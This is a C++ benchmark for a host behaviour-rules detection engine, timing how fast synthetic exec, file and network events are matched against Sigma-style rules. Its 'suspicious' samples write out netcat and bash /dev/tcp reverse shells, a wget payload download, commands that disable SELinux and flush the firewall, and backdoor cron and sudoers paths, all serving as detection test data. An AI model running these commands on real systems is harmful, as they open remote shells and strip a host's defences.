// mamori_behavior_rules_bench: single-threaded throughput of the behavior
// rules engine.
//
//   mamori_behavior_rules_bench [--synthetic N | --events FILE.jsonl] RULE_PATH...
//   mamori_behavior_rules_bench --report RULE_PATH...
//
// Loads the rules (files or directories), then matches either N synthetic
// events (default 2,000,000: a realistic mix of exec/file/network events,
// mostly benign, about 1% suspicious) or the events of a JSON-lines replay file
// (event.h's EventFromJson). Events are built or parsed before the clock
// starts; one untimed warm-up pass over the distinct events precedes the run.
// Prints events/s (wall and thread CPU time), alerts per rule, and the load counts with the reasons of
// refused and skipped rules. --report prints only the load report.
#include <algorithm>
#include <chrono>
#include <cstdio>
#include <cstring>
#include <ctime>
#include <fstream>
#include <map>
#include <random>
#include <string>
#include <vector>

#include "mamori/behavior/event.h"
#include "mamori/behavior/rules/engine.h"
#include "mamori/behavior/rules/rule_set.h"

namespace {

using mamori::behavior::Event;
using mamori::behavior::EventType;
using mamori::behavior::ProcessContext;
namespace rules = mamori::behavior::rules;

struct Command {
  const char* image;
  const char* command_line;
};

// Everyday commands of a developer workstation / server.
constexpr Command kBenign[] = {
    {"/usr/bin/ls", "ls -la /home/alice/projects"},
    {"/usr/bin/grep", "grep -rn TODO src/"},
    {"/usr/bin/cat", "cat /etc/os-release"},
    {"/usr/bin/python3.11", "/usr/bin/python3 /opt/app/manage.py runserver 0.0.0.0:8000"},
    {"/usr/bin/git", "git status --porcelain"},
    {"/usr/bin/git", "git fetch origin main"},
    {"/usr/bin/make", "make -j4 all"},
    {"/usr/bin/x86_64-linux-gnu-gcc-12", "gcc -O2 -Wall -c src/main.c -o build/main.o"},
    {"/usr/bin/sed", "sed -i s/localhost/db.internal/ config/app.ini"},
    {"/usr/bin/awk", "awk -F: '{print $1}' /etc/passwd"},
    {"/usr/bin/ps", "ps aux --sort=-%cpu"},
    {"/usr/bin/sleep", "sleep 5"},
    {"/usr/bin/node", "node /srv/web/server.js --port 3000"},
    {"/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "java -Xmx2g -jar /opt/svc/service.jar"},
    {"/usr/bin/ssh", "ssh -o BatchMode=yes git@github.com git-upload-pack 'org/repo.git'"},
    {"/usr/bin/bash", "bash -c 'echo build finished'"},
    {"/usr/bin/dash", "/bin/sh -c /usr/lib/update-notifier/update-motd-updates-available"},
    {"/usr/bin/tar", "tar -czf /var/backups/home-docs.tgz /home/alice/docs"},
    {"/usr/bin/curl", "curl -s https://api.example.com/health"},
    {"/usr/bin/docker", "docker ps --format {{.Names}}"},
    {"/usr/bin/kubectl", "kubectl get pods -n web"},
    {"/usr/bin/vim.basic", "vim notes.txt"},
    {"/usr/bin/less", "less /var/log/syslog"},
    {"/usr/bin/systemctl", "systemctl status nginx.service"},
    {"/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf"},
    {"/usr/bin/apt-get", "apt-get -qq update"},
    {"/usr/bin/dpkg", "dpkg --status libc6"},
    {"/usr/bin/rsync", "rsync -az /srv/data/ backup:/srv/data/"},
    {"/usr/bin/du", "du -sh /var/lib/docker"},
    {"/usr/bin/date", "date +%s"},
    {"/usr/bin/head", "head -n 20 /var/log/nginx/access.log"},
    {"/usr/bin/sort", "sort -u /tmp/ids.txt"},
    {"/usr/bin/cp", "cp build/app /opt/app/bin/app"},
    {"/usr/bin/mkdir", "mkdir -p /home/alice/.cache/pip"},
    {"/usr/local/bin/go", "go build ./..."},
    {"/usr/bin/npm", "npm ci --silent"},
};

// A few that SigmaHQ linux rules are meant to catch.
constexpr Command kSuspicious[] = {
    {"/usr/bin/nc.openbsd", "nc -e /bin/sh 10.0.0.5 4444"},
    {"/usr/bin/bash", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"},
    {"/usr/bin/chmod", "chmod +x /tmp/.x"},
    {"/usr/bin/base64", "base64 -d /tmp/p.b64"},
    {"/usr/bin/wget", "wget http://203.0.113.7/m -O /tmp/m"},
    {"/usr/bin/crontab", "crontab -l"},
    {"/usr/sbin/setenforce", "setenforce 0"},
    {"/usr/sbin/iptables", "iptables -F"},
    {"/usr/bin/find", "find / -perm -4000 -type f"},
    {"/usr/bin/whoami", "whoami"},
};

constexpr const char* kParents[][2] = {
    {"/usr/bin/bash", "-bash"},
    {"/usr/sbin/sshd", "sshd: alice [priv]"},
    {"/usr/lib/systemd/systemd", "/sbin/init splash"},
    {"/usr/sbin/cron", "/usr/sbin/cron -f"},
    {"/usr/bin/make", "make -j4 all"},
    {"/usr/bin/python3.11", "/usr/bin/python3 /opt/app/worker.py"},
};

// Files written by everyday work, then a few that file rules look for.
constexpr const char* kFiles[] = {"/home/alice/.cache/pip/http/a/b/c/d/e/5f2b0c",
                                  "/var/log/syslog",
                                  "/tmp/tmpk3j2l1x0",
                                  "/var/lib/dpkg/status-new",
                                  "/home/alice/projects/app/src/main.c",
                                  "/home/alice/projects/app/build/main.o",
                                  "/var/lib/docker/overlay2/1f3/diff/app/node_modules/x/index.js",
                                  "/srv/data/uploads/2024/05/report.pdf"};
constexpr const char* kSuspiciousFiles[] = {"/etc/cron.d/backdoor", "/usr/lib/python3/dist-packages/evil.py",
                                            "/home/alice/.bash_history", "/etc/sudoers.d/99-nopasswd"};

// Programs that open network connections.
constexpr Command kNetworkers[] = {
    {"/usr/bin/curl", "curl -s https://api.example.com/health"},
    {"/usr/bin/ssh", "ssh -o BatchMode=yes git@github.com git-upload-pack 'org/repo.git'"},
    {"/usr/bin/node", "node /srv/web/server.js --port 3000"},
    {"/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "java -Xmx2g -jar /opt/svc/service.jar"},
    {"/usr/bin/python3.11", "/usr/bin/python3 /opt/app/manage.py runserver 0.0.0.0:8000"},
    {"/usr/lib/apt/methods/http", "/usr/lib/apt/methods/http"},
    {"/usr/bin/git", "git fetch origin main"},
    {"/usr/sbin/chronyd", "/usr/sbin/chronyd -F 1"},
};

std::string Sha256Of(std::mt19937_64& rng) {
  static const char kHex[] = "0123456789abcdef";
  std::string s(64, '0');
  for (char& c : s) c = kHex[rng() & 15];
  return s;
}

ProcessContext Process(std::mt19937_64& rng, const Command& cmd) {
  ProcessContext p;
  p.pid = 1000 + static_cast<int32_t>(rng() % 60000);
  p.tid = p.pid;
  p.ppid = 500 + static_cast<int32_t>(rng() % 500);
  const bool root = rng() % 4 == 0;
  p.uid = p.euid = p.gid = p.egid = root ? 0 : 1000;
  p.user = root ? "root" : "alice";
  p.image = cmd.image;
  p.command_line = cmd.command_line;
  for (const char* b = cmd.command_line; *b;) {
    const char* e = std::strchr(b, ' ');
    if (!e) e = b + std::strlen(b);
    p.argv.emplace_back(b, e);
    b = *e ? e + 1 : e;
  }
  p.cwd = root ? "/root" : "/home/alice/projects/app";
  p.tty = rng() % 2 ? "pts/1" : "";
  p.cgroup = "/user.slice/user-1000.slice/session-3.scope";
  p.sha256 = Sha256Of(rng);
  return p;
}

// Distinct synthetic events; the run cycles through them.
std::vector<Event> SyntheticPool(size_t n) {
  std::mt19937_64 rng(42);
  std::vector<Event> pool;
  pool.reserve(n);
  for (size_t i = 0; i < n; ++i) {
    Event e;
    const bool suspicious = rng() % 100 == 0;
    const Command& cmd = suspicious ? kSuspicious[rng() % std::size(kSuspicious)] : kBenign[rng() % std::size(kBenign)];
    e.process = Process(rng, cmd);
    const auto& parent = kParents[rng() % std::size(kParents)];
    e.parent.pid = e.process.ppid;
    e.parent.image = parent[0];
    e.parent.command_line = parent[1];
    e.parent.user = e.process.user;
    const unsigned kind = rng() % 100;
    if (kind < 55) {
      e.type = EventType::kExec;
    } else if (kind < 85) {
      static constexpr EventType kFileTypes[] = {
          EventType::kFileOpenWrite, EventType::kFileOpenWrite, EventType::kFileCreate, EventType::kFileCreate,
          EventType::kFileRename,    EventType::kFileUnlink,    EventType::kFileChmod};
      e.type = kFileTypes[rng() % std::size(kFileTypes)];
      e.target_filename =
          suspicious ? kSuspiciousFiles[rng() % std::size(kSuspiciousFiles)] : kFiles[rng() % std::size(kFiles)];
      if (e.type == EventType::kFileRename) e.source_filename = e.target_filename + ".tmp";
      e.mode = e.type == EventType::kFileChmod ? 0755 : 0644;
    } else if (kind < 97) {
      e.type = rng() % 5 ? EventType::kNetConnect : EventType::kNetAccept;
      if (!suspicious) e.process = Process(rng, kNetworkers[rng() % std::size(kNetworkers)]);
      e.protocol = "tcp";
      e.source_ip = "10.0.0.12";
      e.source_port = static_cast<uint16_t>(32768 + rng() % 28000);
      static constexpr const char* kDest[] = {"10.0.0.20", "93.184.216.34", "127.0.0.1", "140.82.112.3"};
      e.destination_ip = kDest[rng() % std::size(kDest)];
      e.destination_port = rng() % 2 ? 443 : 5432;
      if (suspicious) e.destination_hostname = "pool.minexmr.com";
      e.initiated = e.type == EventType::kNetConnect;
    } else {
      static constexpr EventType kOther[] = {EventType::kExit, EventType::kSetUid, EventType::kNetBind,
                                             EventType::kFork};
      e.type = kOther[rng() % std::size(kOther)];
      e.exit_code = 0;
      e.new_id = 0;
      e.source_ip = "0.0.0.0";
      e.source_port = 8080;
    }
    pool.push_back(std::move(e));
  }
  return pool;
}

// CPU time of this thread: unlike wall time, not inflated when other
// processes share the cores.
double ThreadCpuSeconds() {
  timespec ts{};
  clock_gettime(CLOCK_THREAD_CPUTIME_ID, &ts);
  return static_cast<double>(ts.tv_sec) + static_cast<double>(ts.tv_nsec) * 1e-9;
}

bool ReadEvents(const std::string& path, std::vector<Event>* out) {
  std::ifstream in(path);
  if (!in) {
    std::fprintf(stderr, "cannot open %s\n", path.c_str());
    return false;
  }
  std::string line;
  for (size_t n = 1; std::getline(in, line); ++n) {
    if (line.empty()) continue;
    auto e = mamori::behavior::EventFromJson(line);
    if (!e.ok()) {
      std::fprintf(stderr, "%s:%zu: %s\n", path.c_str(), n, e.status().ToString().c_str());
      return false;
    }
    out->push_back(std::move(*e));
  }
  return true;
}

void PrintLoad(const rules::LoadReport& report) {
  std::printf("rules: %d loaded, %d refused, %d skipped\n", report.loaded, report.refused, report.skipped);
  for (const auto& i : report.refused_items) {
    std::printf("  refused %s:%d: %s: %s\n", i.file.c_str(), i.line, i.rule.c_str(), i.reason.c_str());
  }
  std::map<std::string, int> skipped;
  for (const auto& i : report.skipped_items) ++skipped[i.reason];
  for (const auto& [reason, n] : skipped) std::printf("  skipped %d x %s\n", n, reason.c_str());
}

int Usage() {
  std::fprintf(stderr,
               "usage: mamori_behavior_rules_bench [--synthetic N | --events FILE.jsonl] RULE_PATH...\n"
               "       mamori_behavior_rules_bench --report RULE_PATH...\n");
  return 2;
}

}  // namespace

int main(int argc, char** argv) {
  bool report_only = false;
  size_t synthetic = 2'000'000;
  std::string events_file;
  std::vector<std::string> paths;
  for (int i = 1; i < argc; ++i) {
    std::string a = argv[i];
    if (a == "--report") {
      report_only = true;
    } else if (a == "--synthetic" && i + 1 < argc) {
      synthetic = std::stoull(argv[++i]);
    } else if (a == "--events" && i + 1 < argc) {
      events_file = argv[++i];
    } else if (a.rfind("--", 0) == 0) {
      return Usage();
    } else {
      paths.push_back(a);
    }
  }
  if (paths.empty()) return Usage();

  rules::LoadReport report;
  auto t0 = std::chrono::steady_clock::now();
  auto set = rules::RuleSet::Load(paths, &report);
  double load_s = std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count();
  if (!set.ok()) {
    std::fprintf(stderr, "%s\n", set.status().ToString().c_str());
    return 1;
  }
  if (report_only) {
    std::fputs(report.ToText().c_str(), stdout);
    return 0;
  }
  PrintLoad(report);
  std::printf("load time: %.3f s\n", load_s);

  std::vector<Event> pool;
  size_t total = synthetic;
  if (!events_file.empty()) {
    if (!ReadEvents(events_file, &pool)) return 1;
    total = pool.size();
  } else {
    pool = SyntheticPool(std::min<size_t>(synthetic, 4096));
  }
  if (pool.empty()) {
    std::fprintf(stderr, "no events\n");
    return 1;
  }

  rules::Engine engine(*set);
  std::vector<rules::Alert> alerts;
  alerts.reserve(1024);
  uint64_t ts = 1'700'000'000'000'000'000ull;
  for (Event& e : pool) {  // warm-up, untimed; also stamps replayed events if they carry no time
    if (events_file.empty() || e.timestamp_ns == 0) e.timestamp_ns = (ts += 1000);
    engine.Process(e, &alerts);
    alerts.clear();
  }
  rules::Engine timed(*set);
  std::map<std::string, uint64_t> per_rule;
  uint64_t alert_count = 0;
  const bool replay = !events_file.empty();
  auto start = std::chrono::steady_clock::now();
  const double cpu_start = ThreadCpuSeconds();
  for (size_t i = 0, j = 0; i < total; ++i) {
    Event& e = pool[j];
    if (!replay) e.timestamp_ns = (ts += 1000);  // 1M events/s of simulated time
    timed.Process(e, &alerts);
    if (++j == pool.size()) j = 0;
    if (alerts.size() >= 512) {
      alert_count += alerts.size();
      for (const auto& a : alerts) ++per_rule[a.rule->title];
      alerts.clear();
    }
  }
  timed.AdvanceTime(UINT64_MAX, &alerts);
  double secs = std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
  double cpu = ThreadCpuSeconds() - cpu_start;
  alert_count += alerts.size();
  for (const auto& a : alerts) ++per_rule[a.rule->title];

  const auto st = timed.stats();
  std::printf("events: %zu (%s), distinct: %zu\n", total, replay ? events_file.c_str() : "synthetic", pool.size());
  std::printf("wall: %.3f s, events/s: %.0f (single thread)\n", secs, static_cast<double>(total) / secs);
  std::printf("cpu:  %.3f s, events/s per core: %.0f, ns/event: %.0f\n", cpu, static_cast<double>(total) / cpu,
              cpu * 1e9 / static_cast<double>(total));
  std::printf("alerts: %llu from %zu rules; full rule evaluations per event: %.2f\n",
              static_cast<unsigned long long>(alert_count), per_rule.size(),
              static_cast<double>(st.rule_evaluations) / static_cast<double>(total));
  std::vector<std::pair<uint64_t, std::string>> top;
  top.reserve(per_rule.size());
  for (const auto& [title, n] : per_rule) top.emplace_back(n, title);
  std::sort(top.rbegin(), top.rend());
  for (size_t i = 0; i < top.size() && i < 10; ++i) {
    std::printf("  %8llu  %s\n", static_cast<unsigned long long>(top[i].first), top[i].second.c_str());
  }
  return 0;
}
